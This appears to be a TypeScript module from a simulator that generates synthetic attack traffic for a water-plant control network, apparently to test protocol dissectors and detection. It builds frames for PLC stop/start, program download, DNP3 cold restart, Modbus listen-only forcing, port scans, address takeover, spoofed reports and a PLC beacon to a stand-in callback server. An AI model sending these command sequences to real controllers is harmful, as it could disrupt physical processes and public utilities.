// Attack scenarios the simulator can add to the plant's routine traffic, each what an intruder (or a
// careless contractor) would put on the wire: a laptop nobody inventoried commanding controllers, an
// address taken over, a device reached from the internet. Frames are valid for our dissectors and for
// tshark alike. Every scenario lasts under ten seconds and starts at the time it is given.
import { concat } from '../reader/byte-builder.js';
import { type Host, type SimFrame, TCP_ACK, TCP_SYN, tcpFrame, udpFrame } from './frames.js';
import { boosterCommonAddress, buildingController, dnp3Addresses, dosingPlcIdentity, filterPlcDeviceId, plantHosts as h, uvPlcIdentity } from './plant.js';
import * as bacnet from './protocols/bacnet.js';
import * as dnp3 from './protocols/dnp3.js';
import * as enip from './protocols/enip.js';
import * as iec from './protocols/iec104.js';
import * as modbus from './protocols/modbus.js';
import * as s7 from './protocols/s7comm.js';
import { dataBlock } from './actors/s7-block.js';
import { type Actor, type ActorContext, ephemeralPort, ms } from './actors/context.js';
import { TcpConnection } from './tcp-connection.js';

const windows = { ttl: 128, window: 64240, delayedAck: 200_000 } as const;

/** The intruder's laptop on the control network (HP prefix 3c:52:82), in no inventory. */
export const rogueHost: Host = { name: 'ROGUE-LAPTOP', ip: '10.20.2.66', mac: '3c:52:82:4e:11:66', ...windows };
/** The plant's router towards the internet (Cisco prefix 00:1a:a1): frames from outside carry its MAC. */
const gatewayMac = '00:1a:a1:20:00:01';
/** A host on the internet reaching a PLC through a forwarded port (documentation range). */
const internetHost: Host = { name: 'internet', ip: '203.0.113.45', mac: gatewayMac, ...windows };
/** A web server on the internet a compromised PLC calls out to (documentation range). */
const callbackServer: Host = { name: 'callback', ip: '198.51.100.20', mac: gatewayMac, ...windows };
/** The HMI's IP address answered by the intruder's MAC (ARP poisoning, address takeover). */
const hmiImpostor: Host = { ...h.hmi, name: 'HMI impostor', mac: rogueHost.mac };

export const scenarioNames = [
  'rogue-master-writes',
  'stop-start-unknown-host',
  'program-download',
  'program-upload',
  'firmware-update',
  'dnp3-cold-restart',
  'dnp3-disable-unsolicited',
  'iec104-new-station',
  's7-setup-new-host',
  'cip-reset-mode-change',
  'bacnet-dcc-reinitialize',
  'modbus-force-listen-only',
  'brute-force-writes',
  'scan-and-identity-reads',
  'address-takeover',
  'new-host',
  'remote-access',
  'spoofed-reports',
] as const;
export type ScenarioName = (typeof scenarioNames)[number];

export const isScenarioName = (name: string): name is ScenarioName => (scenarioNames as readonly string[]).includes(name);

/** What each scenario does, in words (the CLI lists them). */
export const scenarioDescriptions: Readonly<Record<ScenarioName, string>> = {
  'rogue-master-writes': 'an unknown laptop polls the filter PLC, writes its setpoints (Modbus) and operates a pump relay at the reservoir RTU (DNP3 direct operate)',
  'stop-start-unknown-host': 'an unknown laptop stops and restarts the dosing PLC (S7) and stops and starts the UV PLC (CIP)',
  'program-download': 'an unknown laptop downloads a block to the dosing PLC, inserts it and deletes another (S7)',
  'program-upload': 'an unknown laptop uploads OB1 from the dosing PLC (S7)',
  'firmware-update': 'an unknown laptop writes file records into the filter PLC (Modbus Write File Record)',
  'dnp3-cold-restart': 'an unknown master cold-restarts the reservoir RTU (DNP3)',
  'dnp3-disable-unsolicited': 'an unknown master disables unsolicited reporting of the reservoir RTU (DNP3)',
  'iec104-new-station': 'an unknown station starts data transfer, interrogates and switches a point at the booster RTU (IEC 104)',
  's7-setup-new-host': 'an unknown laptop sets up S7 communication with the dosing PLC and reads its identity and CPU state (SZL)',
  'cip-reset-mode-change': 'an unknown laptop resets the UV PLC (CIP Reset of the Identity object) and stops it (CIP Stop)',
  'bacnet-dcc-reinitialize': 'an unknown laptop disables the building controller (BACnet DeviceCommunicationControl) and warm-starts it (ReinitializeDevice)',
  'modbus-force-listen-only': 'an unknown laptop clears the clearwell PLC\u2019s diagnostic counters and forces it into listen-only mode (Modbus diagnostics)',
  'brute-force-writes': 'an unknown laptop toggles forty coils of the filter PLC within a few seconds (Modbus)',
  'scan-and-identity-reads': 'an unknown laptop scans twenty ports of the filter PLC and reads the identity of four controllers (Modbus, EtherNet/IP, S7)',
  'address-takeover': 'a laptop answering for the HMI\u2019s IP address with its own MAC writes a value to the dosing PLC (S7)',
  'new-host': 'an unknown laptop joins the network and looks for devices (SSDP)',
  'remote-access': 'an unknown laptop opens RDP to the HMI, a host on the internet reads the filter PLC, the filter PLC calls out to an internet server over HTTP',
  'spoofed-reports': 'an unknown station sends unsolicited DNP3 measurements to the SCADA front end',
};

/** Request and answer on one connection, with the device's think time; a null answer is none. */
function exchanger(conn: TcpConnection, ctx: ActorContext, start: number) {
  let t = start;
  return {
    get time() {
      return t;
    },
    wait(msFrom: number, msTo: number) {
      t += ms(ctx.random.between(msFrom, msTo));
    },
    /** One PDU from either side, then a short pause. */
    *send(fromClient: boolean, payload: Uint8Array, delayMs: [number, number] = [1, 5]): Generator<SimFrame> {
      yield* conn.send(fromClient, t, payload);
      t += ms(ctx.random.between(delayMs[0], delayMs[1]));
    },
    *exchange(request: Uint8Array, answer: Uint8Array | null, delayMs: [number, number] = [2, 15]): Generator<SimFrame> {
      yield* conn.send(true, t, request);
      t += ms(ctx.random.between(delayMs[0], delayMs[1]));
      if (answer !== null) {
        yield* conn.send(false, t, answer);
        t += ms(ctx.random.between(0.5, 3));
      }
    },
  };
}

function* session(ctx: ActorContext, client: Host, server: Host, port: number, at: number, body: (x: ReturnType<typeof exchanger>) => Generator<SimFrame>): Actor {
  const conn = new TcpConnection(client, server, ephemeralPort(ctx), port, ctx.random);
  yield* conn.open(at);
  const x = exchanger(conn, ctx, conn.now + ms(ctx.random.between(0.5, 2)));
  yield* body(x);
  yield* conn.close(true, x.time + ms(ctx.random.between(50, 200)));
}

/** ISO transport connection and S7 setup, as every S7 client starts. */
function* s7Connect(ctx: ActorContext, x: ReturnType<typeof exchanger>, ref: () => number): Generator<SimFrame> {
  const endpoints = { clientRef: ctx.random.int(1, 0x7fff), serverRef: ctx.random.int(1, 0x7fff), callingTsap: 0x0100, calledTsap: 0x0102 };
  yield* x.exchange(s7.cotpConnectionRequest(endpoints), s7.cotpConnectionConfirm(endpoints), [1, 4]);
  const r = ref();
  yield* x.exchange(s7.job(r, s7.setupCommunication(1, 480)), s7.ackData(r, s7.setupCommunication(1, 240)));
}

function s7Refs(ctx: ActorContext): () => number {
  let pduref = ctx.random.int(0x0100, 0x0400);
  return () => (pduref = (pduref + 1) & 0xffff);
}

function* s7Session(ctx: ActorContext, client: Host, at: number, body: (x: ReturnType<typeof exchanger>, ref: () => number) => Generator<SimFrame>): Actor {
  const ref = s7Refs(ctx);
  yield* session(ctx, client, h.dosingPlc, 102, at, function* (x) {
    yield* s7Connect(ctx, x, ref);
    yield* body(x, ref);
  });
}

function* modbusSession(ctx: ActorContext, client: Host, plc: Host, at: number, body: (x: ReturnType<typeof exchanger>, tid: () => number) => Generator<SimFrame>): Actor {
  let transaction = ctx.random.int(1, 0x7000);
  yield* session(ctx, client, plc, 502, at, (x) => body(x, () => (transaction = (transaction + 1) & 0xffff)));
}

function* dnp3Session(ctx: ActorContext, client: Host, at: number, requests: readonly { fc: number; objects: Uint8Array; answer: Uint8Array | null }[]): Actor {
  const master = 3; // a link address the real master does not use
  const { outstation } = dnp3Addresses;
  let segment = ctx.random.int(0, 63);
  let outSegment = ctx.random.int(0, 63);
  let seq = ctx.random.int(0, 15);
  yield* session(ctx, client, h.reservoirRtu, dnp3.DNP3_PORT, at, function* (x) {
    for (const r of requests) {
      const s = seq;
      seq = (seq + 1) & 0x0f;
      const request = dnp3.linkFrame(true, outstation, master, dnp3.segment(segment++, dnp3.request(s, r.fc, r.objects)));
      const answer = r.answer === null ? null : dnp3.linkFrame(false, master, outstation, dnp3.segment(outSegment++, dnp3.response(s, 0, 0, r.answer)));
      yield* x.exchange(request, answer, [40, 180]);
      x.wait(200, 600);
    }
  });
}

function* cipSession(ctx: ActorContext, at: number, requests: readonly Uint8Array[]): Actor {
  const context = Uint8Array.of(0x42, 0x57, 0x4b, 0x31, 0, 0, 0, 0);
  const handle = ctx.random.int(0x1000, 0x7fffffff);
  yield* session(ctx, rogueHost, h.uvPlc, enip.ENIP_PORT, at, function* (x) {
    yield* x.exchange(enip.registerSession(context), enip.registerSession(context, handle));
    for (const cip of requests) {
      yield* x.exchange(enip.sendRRData(handle, context, cip), enip.sendRRData(handle, context, enip.cipReply(cip[0]!)), [5, 40]);
      x.wait(300, 800);
    }
  });
}

/** The actors of one scenario, starting at `at` (µs since the epoch). */
export function scenarioActors(name: ScenarioName, ctx: ActorContext, at: number): Actor[] {
  const r = ctx.random;
  switch (name) {
    case 'rogue-master-writes':
      return [
        modbusSession(ctx, rogueHost, h.filterPlc, at, function* (x, tid) {
          // the intruder first learns the process: twelve reads over the register map
          for (let i = 0; i < 12; i++) {
            const t = tid();
            const address = i * 10;
            yield* x.exchange(modbus.readRequest(t, 1, modbus.READ_HOLDING_REGISTERS, address, 10), modbus.registersResponse(t, 1, modbus.READ_HOLDING_REGISTERS, Array.from({ length: 10 }, () => r.int(0, 2000))));
            x.wait(150, 300);
          }
          // then drives the backwash setpoints
          for (const values of [[1200, 30], [2400, 5], [0, 0]]) {
            const t = tid();
            yield* x.exchange(modbus.writeMultipleRegistersRequest(t, 1, 100, values), modbus.writeMultipleRegistersResponse(t, 1, 100, values.length));
            x.wait(400, 900);
          }
        }),
        dnp3Session(ctx, rogueHost, at + ms(500), [
          // latch off pump 2 (control code 4: latch off), the outstation echoes the block
          { fc: dnp3.FC_DIRECT_OPERATE, objects: dnp3.crob(1, 0x04), answer: dnp3.crob(1, 0x04) },
        ]),
      ];
    case 'stop-start-unknown-host':
      return [
        s7Session(ctx, rogueHost, at, function* (x, ref) {
          let p = ref();
          yield* x.exchange(s7.plcStop(p), s7.ackFunction(p, s7.FUNC_PLC_STOP), [150, 400]);
          x.wait(2000, 3000);
          p = ref();
          yield* x.exchange(s7.piService(p, 'P_PROGRAM'), s7.ackFunction(p, s7.FUNC_PI_SERVICE), [200, 600]);
        }),
        cipSession(ctx, at + ms(300), [enip.cipRequest(enip.CIP_STOP, 0x8e, 1), enip.cipRequest(enip.CIP_START, 0x8e, 1)]),
      ];
    case 'program-download':
      return [
        s7Session(ctx, rogueHost, at, function* (x, ref) {
          const file = '_0A00003P';
          const block = dataBlock(3, x.time, r);
          let p = ref();
          yield* x.exchange(s7.requestDownload(p, file, block.length, block.mc7Length), s7.ackFunction(p, s7.FUNC_REQUEST_DOWNLOAD));
          let plcRef = r.int(0x0010, 0x0080);
          // the PLC fetches the block from the station, then reports the end
          yield* x.send(false, s7.blockControlJob(plcRef, s7.FUNC_DOWNLOAD_BLOCK, file));
          yield* x.send(true, s7.downloadBlockData(plcRef, block.bytes), [5, 20]);
          plcRef++;
          yield* x.send(false, s7.blockControlJob(plcRef, s7.FUNC_DOWNLOAD_ENDED, file));
          yield* x.send(true, s7.ackFunction(plcRef, s7.FUNC_DOWNLOAD_ENDED), [20, 60]);
          p = ref();
          yield* x.exchange(s7.piService(p, '_INSE', s7.blockList([file.slice(1)])), s7.ackFunction(p, s7.FUNC_PI_SERVICE), [20, 80]);
          x.wait(300, 600);
          p = ref();
          yield* x.exchange(s7.piService(p, '_DELE', s7.blockList(['0A00001P'])), s7.ackFunction(p, s7.FUNC_PI_SERVICE), [20, 80]);
        }),
      ];
    case 'program-upload':
      return [
        s7Session(ctx, rogueHost, at, function* (x, ref) {
          const block = dataBlock(1, x.time, r);
          const uploadId = r.int(1, 0xff);
          let p = ref();
          yield* x.exchange(s7.startUpload(p, '_0800001A'), s7.startUploadAck(p, uploadId, block.length));
          p = ref();
          yield* x.exchange(s7.uploadJob(p, s7.FUNC_UPLOAD, uploadId), s7.uploadData(p, block.bytes), [5, 30]);
          p = ref();
          yield* x.exchange(s7.uploadJob(p, s7.FUNC_END_UPLOAD, uploadId), s7.ackFunction(p, s7.FUNC_END_UPLOAD));
        }),
      ];
    case 'firmware-update':
      return [
        modbusSession(ctx, rogueHost, h.filterPlc, at, function* (x, tid) {
          for (let record = 0; record < 6; record++) {
            const t = tid();
            const words = Array.from({ length: 16 }, () => r.int(0, 0xffff));
            const pdu = modbus.writeFileRecord(t, 1, 4, record * 16, words);
            yield* x.exchange(pdu, pdu, [20, 60]);
            x.wait(50, 150);
          }
        }),
      ];
    case 'dnp3-cold-restart':
      return [dnp3Session(ctx, rogueHost, at, [{ fc: dnp3.FC_COLD_RESTART, objects: new Uint8Array(0), answer: dnp3.timeDelayFine(5000) }])];
    case 'dnp3-disable-unsolicited':
      return [
        dnp3Session(ctx, rogueHost, at, [
          { fc: dnp3.FC_DISABLE_UNSOLICITED, objects: concat(dnp3.allObjects(60, 2), dnp3.allObjects(60, 3), dnp3.allObjects(60, 4)), answer: new Uint8Array(0) },
        ]),
      ];
    case 'iec104-new-station':
      return [
        session(ctx, rogueHost, h.boosterRtu, iec.IEC104_PORT, at, function* (x) {
          const ca = boosterCommonAddress;
          yield* x.exchange(iec.uFrame(iec.STARTDT_ACT), iec.uFrame(iec.STARTDT_CON));
          yield* x.exchange(iec.iFrame(0, 0, iec.interrogation(iec.COT_ACTIVATION, ca)), iec.iFrame(0, 1, iec.interrogation(iec.COT_ACTIVATION_CON, ca)), [20, 80]);
          x.wait(500, 900);
          // single command, execute, pump 2 on (SCO: state on, no select)
          const command = (cause: number) => iec.asdu(45, cause, ca, [{ address: 2002, write: (b) => b.u8(0x01) }]);
          yield* x.exchange(iec.iFrame(1, 1, command(iec.COT_ACTIVATION)), iec.iFrame(1, 2, command(iec.COT_ACTIVATION_CON)), [20, 80]);
        }),
      ];
    case 's7-setup-new-host':
      return [
        s7Session(ctx, rogueHost, at, function* (x, ref) {
          const id = dosingPlcIdentity;
          let p = ref();
          yield* x.exchange(
            s7.readSzlRequest(p, 0x0011, 0x0000),
            s7.readSzlResponse(p, 1, 0x0011, 0x0000, 28, [s7.moduleIdentification(0x0001, id.orderNumber, 0x0000, 0x0004, id.hardwareVersion)]),
          );
          p = ref();
          // CPU state (SZL 0x0424): the intruder checks the mode before acting
          yield* x.exchange(s7.readSzlRequest(p, 0x0424, 0x0000), s7.readSzlResponse(p, 2, 0x0424, 0x0000, 20, [Uint8Array.of(0x51, 0x44, 0xff, 0x08, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00)]));
        }),
      ];
    case 'cip-reset-mode-change':
      return [cipSession(ctx, at, [enip.cipRequest(enip.CIP_RESET, enip.CIP_IDENTITY_CLASS, 1), enip.cipRequest(enip.CIP_STOP, 0x8e, 1)])];
    case 'bacnet-dcc-reinitialize':
      return [
        (function* (): Actor {
          const port = bacnet.BACNET_PORT;
          let t = at;
          const invoke = r.int(1, 200);
          yield { time: t, data: udpFrame(rogueHost, buildingController, port, port, bacnet.deviceCommunicationControl(invoke, bacnet.DCC_DISABLE)) };
          t += ms(r.between(5, 30));
          yield { time: t, data: udpFrame(buildingController, rogueHost, port, port, bacnet.simpleAck(invoke, bacnet.SERVICE_DEVICE_COMMUNICATION_CONTROL)) };
          t += ms(r.between(1500, 2500));
          yield { time: t, data: udpFrame(rogueHost, buildingController, port, port, bacnet.reinitializeDevice(invoke + 1, bacnet.REINIT_WARMSTART)) };
          t += ms(r.between(5, 30));
          yield { time: t, data: udpFrame(buildingController, rogueHost, port, port, bacnet.simpleAck(invoke + 1, bacnet.SERVICE_REINITIALIZE_DEVICE)) };
        })(),
      ];
    case 'modbus-force-listen-only':
      return [
        modbusSession(ctx, rogueHost, h.clearwellPlc, at, function* (x, tid) {
          let t = tid();
          const clear = modbus.diagnostics(t, 1, modbus.DIAG_CLEAR_COUNTERS, 0);
          yield* x.exchange(clear, clear);
          x.wait(300, 700);
          t = tid();
          // a device in listen-only mode answers nothing
          yield* x.exchange(modbus.diagnostics(t, 1, modbus.DIAG_FORCE_LISTEN_ONLY, 0), null);
          x.wait(1000, 1500);
        }),
      ];
    case 'brute-force-writes':
      return [
        modbusSession(ctx, rogueHost, h.filterPlc, at, function* (x, tid) {
          for (let i = 0; i < 40; i++) {
            const t = tid();
            const pdu = modbus.writeSingleCoil(t, 1, i, i % 2 === 0);
            yield* x.exchange(pdu, pdu, [2, 8]);
            x.wait(40, 90);
          }
        }),
      ];
    case 'scan-and-identity-reads':
      return [portScan(ctx, at), ...identitySweep(ctx, at + ms(1500))];
    case 'address-takeover':
      return [
        s7Session(ctx, hmiImpostor, at, function* (x, ref) {
          const p = ref();
          yield* x.exchange(s7.writeVarRequest(p, { db: 1, byte: 12, length: 4 }, Uint8Array.of(0x40, 0xa0, 0, 0)), s7.writeVarResponse(p, 1));
        }),
      ];
    case 'new-host':
      return [
        (function* (): Actor {
          const search = new TextEncoder().encode('M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: "ssdp:discover"\r\nMX: 2\r\nST: ssdp:all\r\n\r\n');
          const port = ephemeralPort(ctx);
          for (let i = 0; i < 3; i++) yield { time: at + ms(i * 1000 + r.between(0, 50)), data: udpFrame(rogueHost, { ip: '239.255.255.250', mac: '01:00:5e:7f:ff:fa' }, port, 1900, search) };
        })(),
      ];
    case 'remote-access':
      return [
        session(ctx, rogueHost, h.hmi, 3389, at, function* (x) {
          // X.224 connection request with an RDP negotiation request (TLS), and the HMI's confirm
          const request = Uint8Array.of(0x03, 0x00, 0x00, 0x13, 0x0e, 0xe0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x01, 0x00, 0x08, 0x00, 0x01, 0x00, 0x00, 0x00);
          const confirm = Uint8Array.of(0x03, 0x00, 0x00, 0x13, 0x0e, 0xd0, 0x00, 0x00, 0x12, 0x34, 0x00, 0x02, 0x00, 0x08, 0x00, 0x01, 0x00, 0x00, 0x00);
          yield* x.exchange(request, confirm, [5, 20]);
        }),
        modbusSession(ctx, internetHost, h.filterPlc, at + ms(1000), function* (x, tid) {
          const t = tid();
          yield* x.exchange(modbus.readRequest(t, 1, modbus.READ_HOLDING_REGISTERS, 0, 10), modbus.registersResponse(t, 1, modbus.READ_HOLDING_REGISTERS, [418, 1852, 121, 134, 356, 8, 745, 0, 0, 0]), [60, 120]);
        }),
        session(ctx, h.filterPlc, callbackServer, 80, at + ms(2500), function* (x) {
          const text = (s: string) => new TextEncoder().encode(s);
          yield* x.exchange(text('GET /c/beacon?id=plc20 HTTP/1.1\r\nHost: 198.51.100.20\r\n\r\n'), text('HTTP/1.1 204 No Content\r\n\r\n'), [80, 200]);
        }),
      ];
    case 'spoofed-reports':
      return [
        session(ctx, rogueHost, h.scada, dnp3.DNP3_PORT, at, function* (x) {
          const { master, outstation } = dnp3Addresses;
          let segment = r.int(0, 63);
          for (let i = 0; i < 3; i++) {
            const report = dnp3.unsolicitedResponse(i, 0, 0, dnp3.analogInputs([50 + i * 10, 0, 0, 74, 22, 236]));
            yield* x.exchange(dnp3.linkFrame(false, master, outstation, dnp3.segment(segment++, report)), null);
            x.wait(800, 1200);
          }
        }),
      ];
  }
}

/** SYN to twenty ports of the filter PLC, each refused (RST) except Modbus, which is left half-open. */
function* portScan(ctx: ActorContext, at: number): Actor {
  const ports = [21, 22, 23, 80, 102, 161, 443, 445, 502, 1911, 2404, 4840, 5900, 8080, 9600, 20000, 20547, 44818, 47808, 1962];
  const sport = ephemeralPort(ctx);
  let t = at;
  for (const port of ports) {
    const seq = ctx.random.int(0, 0xffffffff);
    yield { time: t, data: tcpFrame(rogueHost, h.filterPlc, { sport, dport: port, seq, ack: 0, flags: TCP_SYN, window: 1024 }) };
    const reply = t + ms(ctx.random.between(0.2, 1));
    if (port === 502) yield { time: reply, data: tcpFrame(h.filterPlc, rogueHost, { sport: port, dport: sport, seq: ctx.random.int(0, 0xffffffff), ack: (seq + 1) >>> 0, flags: TCP_SYN | TCP_ACK, window: h.filterPlc.window }) };
    else yield { time: reply, data: tcpFrame(h.filterPlc, rogueHost, { sport: port, dport: sport, seq: 0, ack: (seq + 1) >>> 0, flags: 0x04 | TCP_ACK, window: 0 }) };
    t = reply + ms(ctx.random.between(5, 20));
  }
}

/** Identity of four controllers: Modbus device identification (two PLCs), ListIdentity (UV PLC), SZL (dosing PLC). */
function identitySweep(ctx: ActorContext, at: number): Actor[] {
  const deviceId = (plc: Host, start: number) =>
    modbusSession(ctx, rogueHost, plc, start, function* (x, tid) {
      const t = tid();
      yield* x.exchange(modbus.readDeviceIdRequest(t, 1, 2, 0), modbus.readDeviceIdResponse(t, 1, 2, 0x82, filterPlcDeviceId));
    });
  const listIdentity = (function* (): Actor {
    const context = Uint8Array.of(0, 0, 0, 0, 0x53, 0x43, 0x41, 0x4e);
    const port = ephemeralPort(ctx);
    const t = at + ms(2500);
    yield { time: t, data: udpFrame(rogueHost, h.uvPlc, port, enip.ENIP_PORT, enip.listIdentityRequest(context)) };
    yield { time: t + ms(ctx.random.between(1, 10)), data: udpFrame(h.uvPlc, rogueHost, enip.ENIP_PORT, port, enip.listIdentityReply(context, uvPlcIdentity)) };
  })();
  const szl = s7Session(ctx, rogueHost, at + ms(3500), function* (x, ref) {
    const p = ref();
    const id = dosingPlcIdentity;
    yield* x.exchange(s7.readSzlRequest(p, 0x0011, 0x0000), s7.readSzlResponse(p, 1, 0x0011, 0x0000, 28, [s7.moduleIdentification(0x0001, id.orderNumber, 0x0000, 0x0004, id.hardwareVersion)]));
  });
  return [deviceId(h.filterPlc, at), deviceId(h.clearwellPlc, at + ms(1200)), listIdentity, szl];
}
